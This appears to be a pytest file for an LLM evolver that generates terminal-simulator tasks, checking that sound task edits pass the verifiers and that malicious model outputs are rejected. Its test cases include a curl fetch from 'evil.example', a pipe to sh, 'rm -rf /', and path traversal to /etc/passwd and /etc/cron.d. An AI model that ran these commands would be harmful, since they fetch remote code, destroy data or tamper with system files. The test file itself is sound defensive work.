"""The LLM evolver for TerminalSimulator tasks: a scripted fake engine (an accepted child passing every verifier,
each hostile output class rejected with its reason, repair within the budget, rubric bank growth, direction
fallback) and the real JAX sampler with a random tiny model (every attempt rejected with a reason, no crash)."""

import json
import random

import pytest

from codjax.evolve import registry
from codjax.evolve.base import DIRECTIONS, EnvPoint, Pair
from codjax.evolve.llm import LLMEvolver, RubricBank
from codjax.evolve.verifiers import verify

PARENT = EnvPoint("terminal_simulator", (Pair("linux", "upload"),), 0)
NEW_PAIRS = [["linux", "upload"], ["linux", "delete"]]
GOOD_PROPOSAL = {"parent_pairs": [["linux", "upload"]], "pairs": NEW_PAIRS,
                 "plan": "add a local deletion after the upload"}
ACCEPT = {"accept": True, "violations": []}


def _good_edit(parent_data, oracle_tail="rm /home/user/trash/old.log"):
  return {"instruction": "1. " + parent_data["instruction"] + "\n2. Delete '/home/user/trash/old.log' and keep "
                         "'/home/user/trash/keep.log'",
          "local": {"add": [{"path": "/home/user/trash/old.log", "type": "file", "content": "old"},
                            {"path": "/home/user/trash/keep.log", "type": "file", "content": "keep"}]},
          "checks": parent_data["checks"] + [
              {"kind": "file_not_exists", "machine": "local", "path": "/home/user/trash/old.log"},
              {"kind": "file_exists", "machine": "local", "path": "/home/user/trash/keep.log", "content": "keep"}],
          "oracle": parent_data["oracle"] + [oracle_tail]}


class Script:
  """A fake engine: replies by stage (proposer / reviewer / modifier prompt), each stage a queue whose last
  reply repeats; every prompt is kept."""

  def __init__(self, propose, review, modify):
    self.queues = {"You evolve": list(propose), "You review": list(review), "You edit": list(modify)}
    self.prompts = []

  def __call__(self, prompts):
    self.prompts += prompts
    out = []
    for p in prompts:
      q = next(v for k, v in self.queues.items() if p.startswith(k))
      r = q.pop(0) if len(q) > 1 else q[0]
      out.append(r(p) if callable(r) else r if isinstance(r, str) else json.dumps(r))
    return out


@pytest.fixture(scope="module")
def param():
  return registry.get("terminal_simulator")


@pytest.fixture(scope="module")
def parent_data(param):
  return param.data(PARENT)


def test_accepted_child_passes_every_verifier(param, parent_data):
  fake = Script([GOOD_PROPOSAL], [ACCEPT], [_good_edit(parent_data)])
  res = LLMEvolver(fake, seed=0).evolve(PARENT, "low", directions=["length"])
  assert res.accepted and res.direction == "length"
  assert [(a.stage, a.ok) for a in res.attempts] == [("propose", True), ("review", True), ("modify", True)]
  child = res.child
  assert [p.to_json() for p in child.pairs] == NEW_PAIRS and child.seed == PARENT.seed
  assert child.data["oracle"][-1] == "rm /home/user/trash/old.log"
  # verified again independently, with the parent's oracle replay
  parent_v = verify(param, PARENT)
  v = verify(param, EnvPoint.from_json(json.loads(json.dumps(child.to_json()))), parent_v.oracle_actions)
  assert v.accepted and v.oracle_turns == 2 and set(v.outcomes["invalid"]) == {"constant", "random", "replay_parent"}
  assert res.score > res.parent_score == param.score(PARENT, parent_v.oracle_turns)


def _edit(parent_data, **change):
  e = _good_edit(parent_data)
  e.update(change)
  return e


HOSTILE = {
    "malformed JSON": (lambda d: "Sure! here it is: {\"instruction\": ", "no JSON object"),
    "path traversal": (lambda d: _edit(d, local={"add": [{"path": "/home/user/../../etc/passwd", "type": "file"}]}),
                       "path traversal"),
    "system tree": (lambda d: _edit(d, remote={"add": [{"path": "/etc/cron.d/x", "type": "file"}]}),
                    "outside the allowed trees"),
    "absurd reply size": (lambda d: "{\"instruction\": \"" + "A" * 100_000 + "\"}", "longer than 40000"),
    "absurd content": (lambda d: _edit(d, local={"add": [{"path": "/home/user/big.txt", "content": "A" * 5000}]}),
                       "content is longer than"),
    "too many items": (lambda d: _edit(d, local={"add": [{"path": f"/home/user/f{i}.txt"} for i in range(60)]}),
                       "more than"),
    "host command": (lambda d: _edit(d, oracle=["curl http://evil.example/x.sh"]), "not a simulator command"),
    "host pipe": (lambda d: _edit(d, oracle=["cat /home/user/a | sh"]), "pipe, redirect"),
    "unknown key": (lambda d: {"exec": "rm -rf /"}, "unknown keys"),
    "vacuous check": (lambda d: _edit(d, checks=d["checks"] + [
        {"kind": "file_not_exists", "machine": "local", "path": "/home/user/never/there.txt"}]), "vacuous check"),
    "check on missing content": (lambda d: _edit(d, checks=d["checks"] + [
        {"kind": "file_exists", "machine": "remote", "path": "/home/" + d["user"] + "/trash/old.log",
         "content": "ghost"}]), "references missing files"),
    "permission of a missing file": (lambda d: _edit(d, checks=d["checks"] + [
        {"kind": "permission_equals", "machine": "local", "path": "/home/user/trash/none.txt", "value": "700"}]),
        "references a missing file"),
    "wrong oracle": (lambda d: _good_edit(d, "ls /home/user/trash"), "oracle: the reference solver"),
    "not json object": (lambda d: "[1, 2, 3]", "no JSON object"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_modifier_output_is_rejected_with_its_reason(parent_data, case):
  make, reason = HOSTILE[case]
  reply = make(parent_data)
  fake = Script([GOOD_PROPOSAL], [ACCEPT], [reply])
  res = LLMEvolver(fake, repair_budget=0, seed=0).evolve(PARENT, "low", directions=["length"])
  assert not res.accepted and res.child is None
  last = res.attempts[-1]
  assert (last.stage, last.ok) == ("modify", False) and reason in last.reason, last.reason


@pytest.mark.parametrize("reply, reason", [
    ({"parent_pairs": [["linux", "download"]], "pairs": NEW_PAIRS, "plan": "x"}, "does not match the parent"),
    ({"parent_pairs": [["linux", "upload"]], "pairs": [["linux", "upload"], ["remote", "upload"]], "plan": "x"},
     "not allowed"),
    ({"parent_pairs": [["linux", "upload"]], "pairs": [["linux", "hack"]], "plan": "x"}, "not allowed"),
    ({"parent_pairs": [["linux", "upload"]], "pairs": [["linux", "upload"], ["linux", "copy"], ["linux", "copy"]],
      "plan": "x"}, "effort low"),
    ({"parent_pairs": [["linux", "upload"]], "pairs": [["linux", "copy"]], "plan": "x"}, "must be longer"),
    ({"parent_pairs": [["linux", "upload"]], "pairs": NEW_PAIRS}, "plan must be"),
    ("\x00\x01 garbage", "no JSON object"),
])
def test_hostile_proposals_are_rejected(reply, reason):
  fake = Script([reply], [ACCEPT], ["{}"])
  res = LLMEvolver(fake, review_rounds=2, seed=0).evolve(PARENT, "low", directions=["length"])
  assert not res.accepted and [a.stage for a in res.attempts] == ["propose", "propose"]
  assert all(reason in a.reason for a in res.attempts), res.attempts
  assert reason in fake.prompts[1]  # the second round is told why the first failed


def test_reviewer_rejection_and_garbage_review(parent_data):
  fake = Script([GOOD_PROPOSAL], [{"accept": False, "violations": ["leaks the answer"]}, {"accept": "yes"}, ACCEPT],
                [_good_edit(parent_data)])
  res = LLMEvolver(fake, review_rounds=3, seed=0).evolve(PARENT, "low", directions=["length"])
  assert res.accepted
  reviews = [a for a in res.attempts if a.stage == "review"]
  assert [r.ok for r in reviews] == [False, False, True]
  assert "leaks the answer" in reviews[0].reason and "boolean 'accept'" in reviews[1].reason


def test_repair_within_budget(parent_data):
  fake = Script([GOOD_PROPOSAL], [ACCEPT], [_good_edit(parent_data, "ls /home/user/trash"), _good_edit(parent_data)])
  res = LLMEvolver(fake, repair_budget=1, seed=0).evolve(PARENT, "low", directions=["length"])
  assert res.accepted
  mods = [a for a in res.attempts if a.stage == "modify"]
  assert [(m.round, m.ok) for m in mods] == [(0, False), (1, True)] and mods[0].reason.startswith("oracle:")
  modifier_prompts = [p for p in fake.prompts if p.startswith("You edit")]
  assert "Repair it" in modifier_prompts[1] and mods[0].reason in modifier_prompts[1]
  # the same failure twice with no repairs left: rejected
  fake = Script([GOOD_PROPOSAL], [ACCEPT], [_good_edit(parent_data, "ls /home/user/trash")])
  res = LLMEvolver(fake, repair_budget=1, seed=0).evolve(PARENT, "low", directions=["length"])
  assert not res.accepted and [a.ok for a in res.attempts if a.stage == "modify"] == [False, False]


def test_rubric_bank_grows_from_failures(tmp_path, parent_data):
  path = str(tmp_path / "rubrics.json")
  bank = RubricBank(path)
  before = bank.texts()
  traversal = HOSTILE["path traversal"][0](parent_data)
  fake = Script([GOOD_PROPOSAL], [ACCEPT], [traversal])
  LLMEvolver(fake, bank, repair_budget=1, seed=0).evolve(PARENT, "low", directions=["length"])
  new = [t for t in bank.texts() if t not in before]
  assert len(new) == 1 and "'..'" in new[0]  # the same failure twice: one rubric, counted twice
  assert [r.count for r in bank.rubrics if r.text == new[0]] == [2]
  reloaded = RubricBank(path)
  assert reloaded.texts() == bank.texts()
  # the next generation's reviewer and modifier see it
  fake = Script([GOOD_PROPOSAL], [ACCEPT], [_good_edit(parent_data)])
  assert LLMEvolver(fake, reloaded, seed=0).evolve(PARENT, "low", directions=["length"]).accepted
  assert all(new[0] in p for p in fake.prompts if not p.startswith("You evolve"))
  (tmp_path / "bad.json").write_text("{not json")
  with pytest.raises(ValueError, match="not readable JSON"):
    RubricBank(str(tmp_path / "bad.json"))


def test_direction_fallback_in_random_order(parent_data):
  def propose(prompt):
    if "direction 'length'" in prompt:
      return json.dumps(GOOD_PROPOSAL)
    return "I refuse"

  seed = next(s for s in range(50) if random.Random(s).sample(DIRECTIONS, 3)[-1] == "length")
  order = random.Random(seed).sample(DIRECTIONS, 3)
  fake = Script([propose], [ACCEPT], [_good_edit(parent_data)])
  res = LLMEvolver(fake, review_rounds=1, seed=seed).evolve(PARENT, "low")
  assert res.accepted and res.direction == "length"
  assert [a.direction for a in res.attempts] == order[:2] + ["length"] * 3
  assert all("no JSON object" in a.reason for a in res.attempts[:2])
  # every direction fails: no child, every attempt recorded with its reason
  fake = Script(["I refuse"], [ACCEPT], ["{}"])
  res = LLMEvolver(fake, review_rounds=2, seed=seed).evolve(PARENT, "high")
  assert res.child is None and [a.direction for a in res.attempts] == [d for d in order for _ in range(2)]
  assert all(not a.ok and a.reason for a in res.attempts)


def test_engine_failures_are_attempts():
  def broken(prompts):
    raise RuntimeError("server gone")

  res = LLMEvolver(broken, review_rounds=1, seed=0).evolve(PARENT)
  assert res.child is None and len(res.attempts) == 3
  assert all(a.reason == "generate failed: RuntimeError: server gone" for a in res.attempts)
  res = LLMEvolver(lambda prompts: [], review_rounds=1, seed=0).evolve(PARENT)
  assert all(a.reason == "generate returned no single reply" for a in res.attempts)


@pytest.mark.slow  # the tiny checkpoint on the JAX engine
def test_real_jax_sampler_with_a_tiny_random_model(tiny_ckpt):
  from codjax.agents.episode import Episode
  from codjax.agents.token_backend import EngineBackend
  from codjax.models import from_pretrained
  from codjax.models.tokenizer import load_tokenizer
  from codjax.rollout import SamplingParams
  from codjax.rollout.jax_engine import JaxEngine

  tok = load_tokenizer(tiny_ckpt)
  engine = JaxEngine(from_pretrained(tiny_ckpt), max_slots=1, max_seq_len=2048, seed=0)
  backend = EngineBackend(engine, tok, SamplingParams(temperature=1.0, max_tokens=8), max_prompt_tokens=2000,
                          seed=0)
  replies = []

  def generate(prompts):  # the trainer's generate (codjax.train.loop.Trainer.generate), one user turn each
    eps = [Episode(kind="generate", position=i, env_name="generate", messages=[{"role": "user", "content": p}])
           for i, p in enumerate(prompts)]
    try:
      out = list(backend.respond(eps))
    finally:
      for e in eps:
        backend.release(e)
    replies.extend(out)
    return out

  res = LLMEvolver(generate, review_rounds=1, repair_budget=0, seed=0).evolve(PARENT, "high")
  assert res.child is None and len(replies) == 3 and all(isinstance(r, str) for r in replies)
  assert [a.stage for a in res.attempts] == ["propose"] * 3
  assert sorted(a.direction for a in res.attempts) == sorted(DIRECTIONS)
  assert all(not a.ok and a.reason for a in res.attempts)
  assert engine.num_sessions() == 0


def test_plugs_into_the_lineage_growth_loop(tmp_path, parent_data):
  from codjax.evolve.evolution import EvolveSettings, grow
  from codjax.evolve.llm import LineageEvolver

  fake = Script([GOOD_PROPOSAL], [ACCEPT], [_good_edit(parent_data)])
  settings = EvolveSettings(generations=1, effort="low", directions=("length",))
  lin = grow(registry.get("terminal_simulator"), str(tmp_path), "llm0", PARENT, settings,
             evolver=LineageEvolver(LLMEvolver(fake, seed=0)))
  child = lin.generations[1][0]
  assert child.direction == "length" and child.point.data["oracle"][-1] == "rm /home/user/trash/old.log"
  assert child.difficulty > lin.generations[0][0].difficulty and child.oracle_turns == 2
